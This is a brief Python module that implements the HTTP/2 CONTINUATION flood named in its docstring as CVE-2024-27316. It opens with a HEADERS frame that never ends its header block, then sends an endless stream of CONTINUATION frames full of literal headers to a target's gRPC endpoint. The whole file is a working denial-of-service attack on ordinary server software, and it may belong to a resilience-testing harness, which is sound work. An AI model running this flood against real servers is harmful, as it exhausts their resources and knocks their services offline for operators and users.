"""A header block without an end, in CONTINUATION frames (CVE-2024-27316)."""

from wire import CONTINUATION, GET, HEADERS, PREFACE, flood_connection, frame, literal, settings


def chunks():
    yield frame(HEADERS, 0, 1, GET)
    while True:
        yield frame(CONTINUATION, 0, 1, literal("a", "b") * 1_000) * 4


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
